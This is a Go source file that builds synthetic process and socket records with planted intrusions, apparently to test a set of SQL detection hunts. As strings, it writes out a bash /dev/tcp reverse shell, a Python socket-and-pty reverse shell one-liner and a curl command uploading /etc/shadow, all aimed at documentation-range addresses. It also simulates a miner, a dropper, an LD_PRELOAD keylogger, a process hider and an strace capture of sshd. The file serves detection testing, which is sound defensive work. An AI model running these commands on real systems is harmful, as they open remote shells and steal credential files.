package main

import (
	"fmt"
	"net/netip"
	"strconv"
)

// plant is one planted behaviour: processes and sockets that the bundled
// hunts (queries/*.sql) report. procs counts the listed processes it
// creates.
type plant struct {
	procs int
	add   func(b *builder, copy int)
}

// attacker returns the address of an attacker's host for one copy of a
// behaviour, from the documentation ranges of RFC 5737, so no synthetic row
// names a real host.
func attacker(copy, last int) netip.Addr {
	nets := [][3]byte{{203, 0, 113}, {198, 51, 100}, {192, 0, 2}}
	n := nets[copy%len(nets)]
	return netip.AddrFrom4([4]byte{n[0], n[1], n[2], byte(last + copy/len(nets))})
}

// Programs that only planted processes run.
var (
	progMiner    = &program{comm: "kdevtmpfsi", exe: "/tmp/kdevtmpfsi", static: true, maps: 0.6, fds: 0.3, files: []string{"@eventpoll", "@pipe"}, threads: []string{"kdevtmpfsi", "kdevtmpfsi", "kdevtmpfsi"}}
	progDropper  = &program{comm: "atd", exe: "/var/tmp/.font-unix/atd", static: true, maps: 0.5, fds: 0.3, files: []string{"@pipe"}}
	progFileless = &program{comm: "systemd-worker", exe: "/memfd:", libs: []string{"libz.so.1.2.13"}, maps: 0.6, fds: 0.3, files: []string{"@eventpoll"}}
	progHidden   = &program{comm: "sshd-agent", exe: "/usr/lib/.x/sshd-agent", static: true, maps: 0.5, fds: 0.3, files: []string{"@pipe"}}
	progRootSh   = &program{comm: "sh", exe: "/var/tmp/sh", libs: nil, maps: 0.5, fds: 0, files: noFiles}
	progCurl     = &program{comm: "curl", exe: "/usr/bin/curl", libs: []string{"libcurl.so.4.8.0", "libz.so.1.2.13", "libnghttp2.so.14.24.1", "libssl.so.3", "libcrypto.so.3", "libidn2.so.0.3.8"}, maps: 1, fds: 0.2, files: noFiles}
	progSniffer  = &program{comm: "netmon", exe: "/usr/lib/.netmon/netmon", libs: []string{"libpcap.so.1.10.3"}, maps: 0.6, fds: 0.3, files: []string{"@eventpoll"}}
	progStrace   = &program{comm: "strace", exe: "/usr/bin/strace", libs: []string{"libunwind-ptrace.so.0.0.0", "libunwind-x86_64.so.8.0.1", "libunwind.so.8.0.1", "liblzma.so.5.4.1"}, maps: 0.8, fds: 0, files: noFiles}
)

// plants are the behaviours planted -planted times each. Each comment names
// the hunts the behaviour triggers.
var plants = []plant{
	// reverse_shell, interpreter_with_inline_code: a web shell starts an
	// interactive bash on a TCP connection to the attacker.
	{procs: 2, add: func(b *builder, copy int) {
		parent := b.pick(b.phpWorkers, b.cron)
		sh := b.spawn(parent, progDash, "sh", "-c", fmt.Sprintf("bash -i >& /dev/tcp/%s/4444 0>&1", attacker(copy, 10)))
		sh.cwd = "/var/www/html"
		bash := b.spawn(sh, progBash, "bash", "-i")
		conn := b.connect(netip.AddrPortFrom(b.h.hostNS.net.addr4, b.ephemeralPort()), netip.AddrPortFrom(attacker(copy, 10), 4444), priorityPlanted, bash)
		bash.sockets = nil
		link := socketLink(conn.inode)
		bash.stdio = [3]string{link, link, link}
	}},
	// interpreter_outbound_connection, interpreter_with_inline_code: a
	// Python one-liner connects out and moves its standard descriptors
	// onto the socket.
	{procs: 1, add: func(b *builder, copy int) {
		var workers []*process
		for _, w := range b.upstreams {
			if w.prog == progGunicorn {
				workers = append(workers, w)
			}
		}
		parent := b.pick(workers, b.cron)
		p := b.spawn(parent, progPython, "python3", "-c", fmt.Sprintf(`import socket,os,pty;s=socket.socket();s.connect(("%s",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`, attacker(copy, 20)))
		conn := b.connect(netip.AddrPortFrom(b.h.hostNS.net.addr4, b.ephemeralPort()), netip.AddrPortFrom(attacker(copy, 20), 443), priorityPlanted, p)
		p.sockets = nil
		link := socketLink(conn.inode)
		p.stdio = [3]string{link, link, link}
	}},
	// deleted_executable, executable_in_temp_dir, fake_kernel_thread: a
	// coin miner named like a kernel thread, run from /tmp and deleted.
	{procs: 1, add: func(b *builder, copy int) {
		p := b.spawn(b.pid1, progMiner, "/tmp/kdevtmpfsi")
		b.setUser(p, uidWWW, uidWWW)
		p.exeDeleted, p.exeDigestKey = true, "kdevtmpfsi"
		p.cwd, p.cgroup = "/tmp", "/system.slice/php8.2-fpm.service"
		p.env = []string{"PATH=/usr/bin:/bin", "HOME=/var/www", "LANG=C"}
		p.stdio = [3]string{"/dev/null", "/dev/null", "/dev/null"}
		b.addThreads(p, -1)
		b.connect(netip.AddrPortFrom(b.h.hostNS.net.addr4, b.ephemeralPort()), netip.AddrPortFrom(attacker(copy, 30), 3333), priorityPlanted, p)
	}},
	// shared_deleted_exe_hash, deleted_executable, executable_in_temp_dir,
	// unusual_listener: one payload copied to two paths, started under two
	// service names and deleted. The copy in /dev/shm listens for a bind
	// shell.
	{procs: 2, add: func(b *builder, copy int) {
		key := "dropper-" + strconv.Itoa(copy)
		first := b.spawn(b.pid1, progDropper, "/usr/sbin/atd", "-f")
		first.exeDeleted, first.exeDigestKey = true, key
		first.env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8"}
		first.stdio = [3]string{"/dev/null", "/dev/null", "/dev/null"}
		second := b.spawn(b.pid1, &program{comm: "crond", exe: "/dev/shm/.x/crond", static: true, maps: 0.5, fds: 0.3, files: []string{"@pipe"}}, "crond")
		second.exeDeleted, second.exeDigestKey = true, key
		second.env, second.stdio = first.env, first.stdio
		b.listen(netip.IPv4Unspecified(), uint16(31337+copy), priorityPlanted, second)
	}},
	// memfd_executable, process_name_mismatch, first_code_not_exe,
	// executable_anonymous_memory: a fileless program run from a memfd.
	{procs: 1, add: func(b *builder, copy int) {
		p := b.spawn(b.pid1, progFileless, "systemd-worker")
		p.exeDeleted, p.exeDigestKey = true, "memfd-"+strconv.Itoa(copy)
		p.env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8"}
		p.stdio = [3]string{"/dev/null", "/dev/null", "/dev/null"}
	}},
	// ld_preload_environment, library_from_temp_path: a shell of the
	// administrator with a key logger preloaded from /dev/shm.
	{procs: 1, add: func(b *builder, copy int) {
		p := b.spawn(b.adminBash, progBash, "bash")
		p.pgrp = p.pid
		p.preload = fmt.Sprintf("/dev/shm/.l%d/libkeyutils.so.1", copy)
		p.env = withEnv(b.adminBash.env, "LD_PRELOAD="+p.preload)
		p.ttyFD = b.adminBash.ttyFD
	}},
	// rwx_memory, executable_anonymous_memory, first_code_not_exe: an sshd
	// with injected code in anonymous memory, some of it below the program.
	{procs: 1, add: func(b *builder, copy int) {
		p := b.spawn(b.sshd, progSshd, "sshd: root@notty")
		p.maps = []mapSpec{
			{start: 0x10000, end: 0x12000, perms: "r-xp"},
			{start: 0x7e3c00000000 + uint64(copy)<<24, end: 0x7e3c00100000 + uint64(copy)<<24, perms: "rwxp"},
		}
	}},
	// hidden_process, orphan_socket, orphan_parent, root_empty_environment:
	// a backdoor left out of the /proc listing, listening, with a root
	// shell whose parent therefore seems missing.
	{procs: 1, add: func(b *builder, copy int) {
		hidden := b.spawn(b.pid1, progHidden, "/usr/lib/.x/sshd-agent", "-d")
		hidden.hidden = true
		hidden.env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8"}
		hidden.stdio = [3]string{"/dev/null", "/dev/null", "/dev/null"}
		b.listen(netip.IPv4Unspecified(), uint16(2222+copy), priorityPlanted, hidden)
		shell := b.spawn(hidden, progDash, "/bin/sh")
		shell.env = nil
		in, out := b.pipe(), b.pipe()
		shell.stdio = [3]string{in, out, out}
		hidden.files = append(hidden.files, fdSpec{target: in, flags: 01, mntID: 14, size: -1}, fdSpec{target: out, flags: 0, mntID: 14, size: -1})
	}},
	// start_before_parent: a shell reparented under rsyslogd that claims to
	// have started before it.
	{procs: 1, add: func(b *builder, copy int) {
		p := b.spawn(b.rsyslogd, progBash, "bash")
		p.start = b.rsyslogd.start - uint64(5+b.rng.IntN(40))
		p.cwd = "/root"
		p.env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8", "TERM=xterm"}
	}},
	// uid_mismatch, unusual_capabilities, executable_in_temp_dir: a setuid
	// copy of a shell in /var/tmp, run by a normal user.
	{procs: 1, add: func(b *builder, copy int) {
		p := b.spawn(b.adminBash, progRootSh, "/var/tmp/sh", "-p")
		p.pgrp = p.pid
		p.euid, p.capEff, p.flags = 0, capsAll, flagsRoot
		p.env = replaceEnv(b.adminBash.env, "_", "/var/tmp/sh")
	}},
	// sensitive_file_with_connection: curl uploads /etc/shadow.
	{procs: 1, add: func(b *builder, copy int) {
		target := attacker(copy, 77)
		p := b.spawn(b.cron, progCurl, "curl", "-s", "-T", "/etc/shadow", "https://"+target.String()+"/u")
		p.env = []string{"PATH=/usr/bin:/bin", "HOME=/root", "LANG=C.UTF-8", "SHELL=/bin/sh"}
		p.files = append(p.files, fdSpec{target: "/etc/shadow", flags: 0100000, size: 1387, nlink: 1, mntID: 29, ino: pathInode("/etc/shadow")})
		b.connect(netip.AddrPortFrom(b.h.hostNS.net.addr4, b.ephemeralPort()), netip.AddrPortFrom(target, 443), priorityPlanted, p)
	}},
	// sniffer_socket, executable_in_temp_dir: a packet sniffer under a
	// hidden directory.
	{procs: 1, add: func(b *builder, copy int) {
		p := b.spawn(b.pid1, progSniffer, "/usr/lib/.netmon/netmon", "-i", "eth0")
		p.env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8"}
		p.stdio = [3]string{"/dev/null", "/dev/null", "/dev/null"}
		b.addSocket(&socket{proto: "packet", ns: p.ns.net, etherType: 0x0003, uid: 0, priority: priorityPlanted}, p)
	}},
	// secrets_in_environment: an export job with cloud keys and a database
	// password in its environment. The keys end in EXAMPLE, as AWS's
	// documentation keys do.
	{procs: 1, add: func(b *builder, copy int) {
		u := b.userByID(uidETL)
		p := b.spawn(b.cron, progPython, "/usr/bin/python3", "/opt/etl/sync_s3.py")
		b.setUser(p, u.uid, u.gid)
		p.cwd = u.home
		p.env = b.buildEnv([]string{"HOME=" + u.home, "LOGNAME=" + u.name, "PATH=/usr/bin:/bin", "LANG=C.UTF-8",
			"AWS_ACCESS_KEY_ID=AKIA" + b.upperID(9) + "EXAMPLE", "AWS_SECRET_ACCESS_KEY=" + b.hexID(28) + "EXAMPLEKEY00",
			"DATABASE_URL=postgresql://etl:" + b.hexID(12) + "@10.20.0.41:5432/warehouse"}, nil)
	}},
}

// plantOnce applies the behaviours that a host shows once however many
// copies are planted. It creates one process, the tracer.
//
// deleted_log_still_open and truncated_log_still_open: rsyslogd writes to an
// auth.log that was deleted and to a syslog that was truncated under it.
// deleted_library_mapped: sshd still maps the libcrypto an upgrade removed.
// history_disabled: the administrator's shell does not save its history.
// traced_process: strace attached to sshd. ld_so_preload_present: an
// /etc/ld.so.preload that names a process hider. tainted_module and
// hidden_module: see buildModules.
func (b *builder) plantOnce() {
	auth := &b.rsyslogd.files[1]
	auth.target, auth.nlink = auth.target+" (deleted)", 0
	syslog := &b.rsyslogd.files[0]
	syslog.size = int64(1000 + b.rng.IntN(5000))

	libs := []string{libDir + "libcrypto.so.3 (deleted)"}
	for _, lib := range progSshd.libs {
		if lib != "libcrypto.so.3" {
			libs = append(libs, lib)
		}
	}
	b.sshd.libs = libs

	b.adminBash.env = withEnv(b.adminBash.env, "HISTFILE=/dev/null", "HISTSIZE=0")

	tracer := b.spawn(b.adminBash, progStrace, "strace", "-f", "-p", strconv.Itoa(b.sshd.pid), "-e", "trace=read,write", "-s", "256", "-o", "/tmp/.sshd.log")
	b.setUser(tracer, uidRoot, 0)
	tracer.pgrp = tracer.pid
	tracer.files = append(tracer.files, fdSpec{target: "/tmp/.sshd.log", flags: 0100001, pos: 48213, size: 48213, nlink: 1, mntID: 29, ino: pathInode("/tmp/.sshd.log")})
	b.sshd.tracerPID = tracer.pid

	b.h.preloadFile = "/usr/local/lib/libprocesshider.so\n"
}

// pick returns a random process of list, or fallback when list is empty.
func (b *builder) pick(list []*process, fallback *process) *process {
	if len(list) == 0 {
		return fallback
	}
	return list[b.rng.IntN(len(list))]
}

// upperID returns n random upper-case letters and digits.
func (b *builder) upperID(n int) string {
	const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	out := make([]byte, n)
	for i := range out {
		out[i] = digits[b.rng.IntN(len(digits))]
	}
	return string(out)
}

// socketLink returns the fd link text of a socket.
func socketLink(inode uint64) string {
	return "socket:[" + strconv.FormatUint(inode, 10) + "]"
}
